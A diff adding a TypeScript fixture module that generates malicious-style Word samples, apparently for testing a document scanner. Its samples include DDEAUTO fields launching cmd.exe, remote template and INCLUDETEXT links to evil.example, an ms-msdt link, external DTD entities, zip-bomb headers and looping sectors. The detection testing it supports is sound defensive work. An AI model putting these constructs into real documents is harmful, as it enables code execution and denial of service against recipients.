@@ -1,0 +1,205 @@
+import {
+  contentTypes,
+  documentOf,
+  fieldOf,
+  makeDocx,
+  makeDocxWith,
+  relationships,
+  strict,
+} from '../make-docx.ts';
+import { compoundBytes, docText, zipBytes } from '../sample-files.ts';
+
+const external = (type: string, target: string, more: { mode?: string; namespace?: string } = {}) =>
+  relationships({ type, target, mode: 'External', ...more });
+const template = (target: string) => external('attachedTemplate', target);
+const remote = 'https://templates.example/macros.dotm';
+const relationsOf = (type: string, target: string) =>
+  makeDocx({ 'word/_rels/document.xml.rels': external(type, target) });
+const withField = (...pieces: string[]) => makeDocx({ 'word/document.xml': documentOf(fieldOf(...pieces)) });
+const withText = (xml: string) => makeDocx({ 'word/document.xml': xml });
+
+/** Word files with macros, embedded files or content from elsewhere. */
+export const activeDocx: Record<string, () => Buffer> = {
+  'a template from the web': () => makeDocx({ 'word/_rels/settings.xml.rels': template(remote) }),
+  'a template of a part with another name': () =>
+    makeDocx({ 'word/_rels/settings2.xml.rels': template(remote) }),
+  'a template of a part in capitals': () => makeDocx({ 'word/_rels/Settings.xml.RELS': template(remote) }),
+  'a template of a part in another folder': () => makeDocx({ 'a/_rels/b.xml.rels': template(remote) }),
+  'a template of an escaped part': () => makeDocx({ 'word/_rels/settings.xml.%72els': template(remote) }),
+  'a template behind backslashes': () => makeDocx({ 'word\\_rels\\settings.xml.rels': template(remote) }),
+  'a template on a file share': () =>
+    makeDocx({ 'word/_rels/settings.xml.rels': template('file:///\\\\server\\a.dotm') }),
+  'a template on a file share with a plain path': () =>
+    makeDocx({ 'word/_rels/settings.xml.rels': template('\\\\server\\a.dotm') }),
+  'a template with escaped letters': () =>
+    makeDocx({
+      'word/_rels/settings.xml.rels': template(remote).replace('attachedTemplate', 'attached&#84;emplate'),
+    }),
+  'a template in the strict namespace': () =>
+    makeDocx({ 'word/_rels/settings.xml.rels': external('attachedTemplate', remote, { namespace: strict }) }),
+  'a template that does not say it is external': () =>
+    makeDocx({ 'word/_rels/settings.xml.rels': relationships({ type: 'attachedTemplate', target: remote }) }),
+  'a template in capitals': () =>
+    makeDocx({ 'word/_rels/settings.xml.rels': external('ATTACHEDTEMPLATE', remote, { mode: 'EXTERNAL' }) }),
+  'a template in two bytes a letter': () =>
+    makeDocx({
+      'word/_rels/settings.xml.rels': Buffer.from(
+        `\ufeff${template(remote).replace('UTF-8', 'UTF-16')}`,
+        'utf16le',
+      ),
+    }),
+  'a picture from the web': () => relationsOf('image', 'https://evil.example/a.png'),
+  'an object from the web': () => relationsOf('oleObject', 'https://evil.example/a.html!'),
+  'a frame': () => relationsOf('frame', 'https://evil.example/a.docx'),
+  'a document that is merged in': () => relationsOf('subDocument', 'a.docx'),
+  'a link to a file share': () => relationsOf('hyperlink', 'file://server/share'),
+  'a link to a program': () => relationsOf('hyperlink', 'ms-msdt:/id'),
+  'a chunk of another format': () =>
+    makeDocx({
+      'word/_rels/document.xml.rels': relationships({ type: 'aFChunk', target: 'chunk.xml' }),
+      'word/chunk.xml': '<html/>',
+    }),
+  'a chunk without a relationship': () => withText(documentOf('<w:altChunk r:id="rId9"/>')),
+  'an embedded object': () =>
+    makeDocx({
+      'word/_rels/document.xml.rels': relationships({ type: 'oleObject', target: 'media/a.jpeg' }),
+      'word/media/a.jpeg': 'x',
+    }),
+  'an embedded workbook': () => makeDocx({ 'word/embeddings/sheet.xlsx': 'x' }),
+  'an embedded package': () => makeDocx({ 'word/embeddings/oleObject1.bin': 'x' }),
+  'a control': () => makeDocx({ 'word/activeX/activeX1.bin': 'x' }),
+  'a control without a part': () => withText(documentOf('<w:control r:id="rId9"/>')),
+  macros: () => makeDocx({ 'word/vbaProject.bin': 'x' }),
+  'macros with another name': () =>
+    makeDocx({
+      '[Content_Types].xml': contentTypes(
+        '<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/>',
+      ),
+    }),
+  'macros with escaped letters': () =>
+    makeDocx({
+      '[Content_Types].xml': contentTypes(
+        '<Default Extension="png" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
+      ),
+    }),
+  'the type of a document with macros': () =>
+    makeDocx({
+      '[Content_Types].xml': contentTypes().replace(
+        'wordprocessingml.document',
+        'word.document.macroEnabled',
+      ),
+    }),
+  ...Object.fromEntries(
+    ['exe', 'js', 'vbs', 'ps1', 'hta', 'lnk', 'scr', 'bat', 'jar', 'html', 'docm', 'EXE'].map((extension) => [
+      `a .${extension}`,
+      () => makeDocx({ [`word/media/a.${extension}`]: 'x' }),
+    ]),
+  ),
+  'a field that starts a program': () => withField(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '),
+  'such a field in pieces': () => withField('D', 'DE', 'AUTO', ' cmd'),
+  'such a field in one element': () => withText(documentOf('<w:fldSimple w:instr=" dde cmd a"/>')),
+  'such a field in other letters': () =>
+    withText(documentOf(fieldOf('X cmd')).replace('X cmd', '&#68;DE cmd')),
+  'such a field in a header': () => makeDocx({ 'word/header1.xml': documentOf(fieldOf('DDE cmd')) }),
+  'such a field in the result of another': () => withField('PAGE', fieldOf('DDE cmd')),
+  'such a field with a name that a field makes': () => withField(fieldOf('QUOTE 68 68 69'), ' cmd'),
+  'a field with text from the web': () => withField('INCLUDETEXT "https://evil.example/a.docx"'),
+  'a field with a picture from the web': () => withField('INCLUDEPICTURE "https://evil.example/a.png" \\d'),
+  'a field with a picture from a file share': () => withField('INCLUDEPICTURE "\\\\server\\a.png"'),
+  'a field with a picture whose address a field makes': () =>
+    withField('INCLUDEPICTURE ', fieldOf('QUOTE 1')),
+  'a drawing with a picture from the web': () =>
+    withText(documentOf('<v:imagedata xmlns:v="urn:v" src="https://evil.example/a.png"/>')),
+  'a merge with a database': () =>
+    makeDocx({ 'word/settings.xml': '<w:settings><w:mailMerge/></w:settings>' }),
+};
+
+/** Archives that readers may understand differently, that are broken, or that cost too much to read. */
+export const unreadableDocx: Record<string, () => Buffer> = {
+  'two parts with one name': () => makeDocxWith(['word/document.xml', documentOf('')]),
+  'two parts whose names differ in capitals': () => makeDocxWith(['Word/Document.xml', documentOf('')]),
+  'two parts whose names differ in slashes': () => makeDocxWith(['word\\document.xml', documentOf('')]),
+  'two names for one part': () => {
+    const bytes = makeDocx({ 'word/aaaa.xml': '<a/>' });
+    bytes.write('word/bbbb.xml', bytes.indexOf('word/aaaa.xml'));
+    return bytes;
+  },
+  'a part outside of the archive': () => makeDocx({ '../a.xml': '<a/>' }),
+  entities: () => withText('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
+  'entities from elsewhere': () => withText('<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><a/>'),
+  'an entity that nothing declares': () => withText('<a>&b;</a>'),
+  'broken relationships': () => makeDocx({ 'word/_rels/document.xml.rels': '<Relationships>' }),
+  'an unusual encoding': () => withText('<?xml version="1.0" encoding="UTF-7"?><a/>'),
+  'text in a picture': () =>
+    makeDocx({
+      '[Content_Types].xml': contentTypes('<Override PartName="/word/a.png" ContentType="application/xml"/>'),
+      'word/a.png': '<a/>',
+    }),
+  'deep nesting': () => withText('<a>'.repeat(200_000) + '</a>'.repeat(200_000)),
+  'thousands of parts': () =>
+    makeDocx(Object.fromEntries(Array.from({ length: 3_000 }, (_, at) => [`word/${at}.xml`, '<a/>']))),
+  gigabytes: () => {
+    const bytes = makeDocx();
+    const central = bytes.indexOf(Buffer.from('504b0102', 'hex'));
+    bytes.writeUInt16LE(8, central + 10);
+    bytes.writeUInt32LE(0xfffffff0, central + 24);
+    return bytes;
+  },
+  'no document': () => zipBytes({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<a/>' }),
+  'half an archive': () => makeDocx().subarray(0, 900),
+};
+
+const doc = (streams: Record<string, Buffer>) => () => compoundBytes({ WordDocument: docText(), ...streams });
+const content = Buffer.from('content');
+
+export const activeDoc: Record<string, () => Buffer> = {
+  macros: doc({ 'Macros/VBA/_VBA_PROJECT': content }),
+  'macros in small letters': doc({ 'macros/vba/_vba_project': content }),
+  'macros in another folder': doc({ 'a/b/_VBA_PROJECT': content }),
+  'a control': doc({ 'a/\x03OCXNAME': content }),
+  'an embedded package': doc({ 'ObjectPool/_1234/\x01Ole10Native': content }),
+  'an embedded document': doc({ 'ObjectPool/_1234/Package': content }),
+  'an embedded object': doc({ 'ObjectPool/_1234/CONTENTS': content }),
+  'a field that starts a program': () =>
+    compoundBytes({ WordDocument: docText('\x13 DDEAUTO cmd \x14\x15') }),
+  'such a field in two bytes a letter': () =>
+    compoundBytes({ WordDocument: Buffer.concat([docText(), Buffer.from('\x13DDE cmd', 'utf16le')]) }),
+  'the mark of a template': () => compoundBytes({ WordDocument: withFlags(0x0001) }),
+  'a template from the web': () => compoundBytes(docWithTemplate(remote)),
+  'a template on a file share': () => compoundBytes(docWithTemplate('\\\\server\\a.dot')),
+};
+
+export const unreadableDoc: Record<string, () => Buffer> = {
+  'an installer': () => compoundBytes({ _Tables: content }),
+  'a document inside of a folder': () => compoundBytes({ 'a/WordDocument': docText() }),
+  'text of an unknown version': () => compoundBytes({ WordDocument: Buffer.alloc(2_000) }),
+  'half a container': () => compoundBytes({ WordDocument: docText() }).subarray(0, 700),
+  'nothing but the mark of a container': () =>
+    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_000, 0xff)]),
+  'sectors in a circle': () => {
+    const bytes = compoundBytes({ WordDocument: Buffer.concat([docText(), Buffer.alloc(50_000)]) });
+    // Each entry of the table of sectors names the first sector as its successor.
+    const table = 512 * (1 + bytes.readUInt32LE(0x4c));
+    bytes.fill(0, table, table + 512);
+    return bytes;
+  },
+};
+
+/** The streams of an old Word file that names its template. */
+export function docWithTemplate(path: string): Record<string, Buffer> {
+  const text = docText();
+  const counted = (value: string) => {
+    const length = Buffer.alloc(2);
+    length.writeUInt16LE(value.length);
+    return Buffer.concat([length, Buffer.from(value, 'utf16le')]);
+  };
+  const table = Buffer.concat([Buffer.from('ffff12000000', 'hex'), counted(''), counted(path)]);
+  text.writeUInt32LE(table.length, 0x19e);
+  return { WordDocument: text, '0Table': table };
+}
+
+function withFlags(flags: number): Buffer {
+  const text = docText();
+  text.writeUInt16LE(flags, 0x0a);
+  return text;
+}
